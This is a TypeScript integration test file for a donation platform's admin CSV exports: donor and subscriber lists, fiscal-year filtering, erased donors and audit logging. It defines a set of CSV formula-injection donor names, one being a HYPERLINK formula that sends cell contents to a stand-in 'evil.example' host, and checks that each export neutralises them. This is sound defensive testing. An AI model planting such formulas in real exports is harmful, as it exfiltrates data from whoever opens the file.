import 'reflect-metadata';
import type { Response } from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Campaign } from '../src/campaigns/campaign.entity';
import { signedInAdmin, type AdminBrowser } from './helpers/admin';
import { csvRecords, parseCsv } from './helpers/csv';
import { makeCampaign, startTestKettle, type TestKettle } from './helpers/kettle';
import { ledgerSeed } from './helpers/ledger-seed';

let kettle: TestKettle;
let viewer: AdminBrowser;
let usd: Campaign;
let eur: Campaign;

/** Names a spreadsheet would run as formulas, and ones that test quoting. */
const HOSTILE_NAMES = {
  hyperlink: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  plus: '+1+2',
  minus: '-3+4',
  at: '@SUM(A1:A9)',
  tab: '\tTabbed',
  cr: '\rCarriage',
};

beforeAll(async () => {
  kettle = await startTestKettle();
  viewer = await signedInAdmin(kettle, 'viewer');
  usd = await makeCampaign(kettle, { currency: 'usd' });
  eur = await makeCampaign(kettle, { currency: 'eur' });
  const seed = ledgerSeed(kettle);

  // Ana gave in two currencies over two years, and got part of one gift back.
  const ana = await seed.donor('ana@example.org', 'Ana "Nana" Müller,\nJr. 😀');
  const first = await seed.gift(usd, ana, 25_00, '2024-03-01T10:00:00Z');
  await seed.gift(usd, ana, 10_50, '2025-05-02T11:00:00Z');
  await seed.gift(eur, ana, 40_00, '2025-06-03T12:00:00Z');
  await seed.adjust('refund', first, 5_00, 'usd', '2025-01-10T00:00:00Z');

  for (const [key, name] of Object.entries(HOSTILE_NAMES)) {
    const donor = await seed.donor(`${key}@example.org`);
    // Straight into the row: the donate form would strip the tab and CR, an import or an old row may not.
    await kettle.dataSource.query(`UPDATE donors SET name = $2 WHERE id = $1`, [donor, name]);
    await seed.gift(usd, donor, 10_00, '2025-07-01T00:00:00Z');
  }

  // An erased donor (as the console erases one): their gift stays in the ledger.
  const erased = await seed.donor('erased@example.org', 'Erased Person');
  await seed.gift(usd, erased, 10_00, '2025-07-01T00:00:00Z');
  await kettle.dataSource.query(`UPDATE donors SET email = 'erased+' || id || '@invalid', name = NULL, erased_at = now() WHERE id = $1`, [erased]);

  // Digest consents, as checkouts record them.
  const intent = (email: string, name: string | null, campaign: Campaign, createdAt: string, extra: { newsletter?: boolean; status?: string; purged?: boolean } = {}) =>
    kettle.dataSource.query(
      `INSERT INTO checkout_intents (campaign_id, frequency, donation_amount, total_amount, currency, email, donor_name, newsletter, status, created_at, personal_data_purged_at)
       VALUES ($1, 'once', 1000, 1000, $2, $3, $4, $5, $6, $7, $8)`,
      [campaign.id, campaign.currency, email, name, extra.newsletter ?? true, extra.status ?? 'completed', createdAt, extra.purged ? createdAt : null],
    );
  await intent('Reader@example.org', 'Old Name', usd, '2025-01-01T09:00:00Z');
  await intent('reader@example.org', HOSTILE_NAMES.hyperlink, eur, '2025-02-01T09:30:00Z');
  await intent('reader@example.org', 'Not subscribed this time', usd, '2025-03-01T09:00:00Z', { newsletter: false });
  await intent('never-paid@example.org', 'Never Paid', usd, '2025-02-01T09:00:00Z', { status: 'expired' });
  await intent('purged@example.org', 'Purged', usd, '2025-02-01T09:00:00Z', { purged: true });
  await intent('tab@example.org', HOSTILE_NAMES.tab, usd, '2025-04-01T00:00:00Z');
  await intent('minus@example.org', HOSTILE_NAMES.minus, usd, '2025-04-01T00:00:00Z');
});
afterAll(() => kettle?.close());

const expectCsv = (res: Response, filename: string) => {
  expect(res.status).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(res.headers['content-disposition']).toBe(`attachment; filename="${filename}"`);
  expect(res.text.startsWith('\uFEFF')).toBe(true);
};

describe('/admin/exports', () => {
  it('lists the exports with their filters, gifts.csv included', async () => {
    const page = await viewer.get('/admin/exports');
    expect(page.status).toBe(200);
    expect(page.text).toContain('action="/admin/exports/gifts.csv"');
    for (const name of ['campaign', 'from', 'to', 'fy']) expect(page.text).toContain(`name="${name}"`);
    expect(page.text).toContain('action="/admin/exports/donors.csv"');
    expect(page.text).toContain('href="/admin/exports/subscribers.csv"');
  });
});

describe('donors.csv', () => {
  it('one row per donor and currency, amounts in major units, ISO dates, erased donors left out; a viewer may export', async () => {
    const res = await viewer.get('/admin/exports/donors.csv');
    expectCsv(res, 'donors.csv');
    expect(parseCsv(res.text)[0]).toEqual(['donor_id', 'email', 'name', 'currency', 'gifts', 'first_gift_at', 'last_gift_at', 'given', 'refunded', 'voided', 'net']);
    const records = csvRecords(res.text);
    const ana = records.filter((r) => r.email === 'ana@example.org');
    expect(ana.map(({ donor_id: _id, ...rest }) => rest)).toEqual([
      { email: 'ana@example.org', name: 'Ana "Nana" Müller,\nJr. 😀', currency: 'EUR', gifts: '1', first_gift_at: '2025-06-03T12:00:00.000Z', last_gift_at: '2025-06-03T12:00:00.000Z', given: '40.00', refunded: '0.00', voided: '0.00', net: '40.00' },
      { email: 'ana@example.org', name: 'Ana "Nana" Müller,\nJr. 😀', currency: 'USD', gifts: '2', first_gift_at: '2024-03-01T10:00:00.000Z', last_gift_at: '2025-05-02T11:00:00.000Z', given: '35.50', refunded: '5.00', voided: '0.00', net: '30.50' },
    ]);
    expect(records.some((r) => r.email === '' || r.name === 'Erased Person')).toBe(false);
    expect(records).toHaveLength(2 + Object.keys(HOSTILE_NAMES).length);
  });

  it('makes every formula-like name plain text for spreadsheets', async () => {
    const records = csvRecords((await viewer.get('/admin/exports/donors.csv')).text);
    for (const [key, name] of Object.entries(HOSTILE_NAMES)) {
      expect(records.find((r) => r.email === `${key}@example.org`)!.name).toBe(`'${name}`);
    }
  });

  it('with fy, counts only that calendar year\'s gifts (UTC), each with what was refunded of it since', async () => {
    const res = await viewer.get('/admin/exports/donors.csv?fy=2024');
    expectCsv(res, 'donors-2024.csv');
    const records = csvRecords(res.text);
    expect(records.map((r) => [r.email, r.currency, r.gifts, r.given, r.refunded, r.net])).toEqual([['ana@example.org', 'USD', '1', '25.00', '5.00', '20.00']]);
  });

  it('refuses a malformed year beside the field (400)', async () => {
    const res = await viewer.get('/admin/exports/donors.csv?fy=20x4');
    expect(res.status).toBe(400);
    expect(res.text).toMatch(/id="donors-fy-error">Enter a year from 2000 to \d{4}, like \d{4}\.</);
    expect(res.text).toContain('value="20x4"');
  });
});

describe('subscribers.csv', () => {
  it('one row per email from its latest consent, names made safe, unpaid and purged checkouts left out', async () => {
    const res = await viewer.get('/admin/exports/subscribers.csv');
    expectCsv(res, 'subscribers.csv');
    expect(parseCsv(res.text)[0]).toEqual(['email', 'name', 'consented_at', 'campaign']);
    expect(csvRecords(res.text)).toEqual([
      { email: 'minus@example.org', name: `'${HOSTILE_NAMES.minus}`, consented_at: '2025-04-01T00:00:00.000Z', campaign: usd.slug },
      { email: 'reader@example.org', name: `'${HOSTILE_NAMES.hyperlink}`, consented_at: '2025-02-01T09:30:00.000Z', campaign: eur.slug },
      { email: 'tab@example.org', name: `'${HOSTILE_NAMES.tab}`, consented_at: '2025-04-01T00:00:00.000Z', campaign: usd.slug },
    ]);
  });
});

it('every export is in the audit log: who, which, when, with its filters', async () => {
  const rows = await kettle.dataSource.query(
    `SELECT l.action, l.after, a.email FROM admin_audit_log l JOIN admin_accounts a ON a.id = l.admin_id WHERE l.subject_type = 'export' ORDER BY l.id`,
  );
  expect(rows).toContainEqual({ action: 'export.donors', after: { fy: null }, email: viewer.email });
  expect(rows).toContainEqual({ action: 'export.donors', after: { fy: 2024 }, email: viewer.email });
  expect(rows).toContainEqual({ action: 'export.subscribers', after: {}, email: viewer.email });
  // Three donors.csv downloads above; the refused year exported nothing and is not recorded.
  expect(rows.filter((r: { action: string }) => r.action === 'export.donors')).toHaveLength(3);
});
